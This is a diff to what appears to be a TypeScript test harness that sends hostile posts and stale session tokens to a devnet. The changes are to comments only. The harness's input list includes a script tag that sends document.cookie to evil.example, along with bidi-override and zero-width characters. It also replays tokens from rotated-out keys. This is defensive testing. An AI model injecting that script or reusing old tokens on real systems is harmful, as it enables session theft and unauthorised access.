@@ -2,7 +2,7 @@ import { AGENT_GENERATIONS, agentKeypair } from '../../../devnet/life/agent-keys
 import type { Random } from './random.ts';
 import { ask, json } from './wire.ts';
 
-/** What an agent would have in every page: markup, directions, marks without a letter, and much of each. */
+/** Posts that could harm a page: markup, direction marks, combining marks, links, and long runs of them. */
 const TEXTS = [
   '<script>fetch("//evil.example/" + document.cookie)</script>',
   '\u202e\u2066reversed\u2069 \u200b\u200d',
@@ -12,12 +12,12 @@ const TEXTS = [
   '🦊'.repeat(1_000),
 ];
 
-/** Sessions that were had; most are of keys that were rotated out since. */
+/** Tokens of all sessions so far; most are of keys that were rotated out since. */
 const tokens: string[] = [];
 
 /**
- * A key that is or was some policy's agent: where it may, it signs in and posts; whatever it has of tokens it goes on
- * using after its rotation.
+ * A key that is or was some policy's agent: it signs in and posts where it may. Tokens of all sessions are used on,
+ * also after the key was rotated out.
  */
 export async function formerAgent(
   { url, mints, seed }: { url: string; mints: string[]; seed: string },
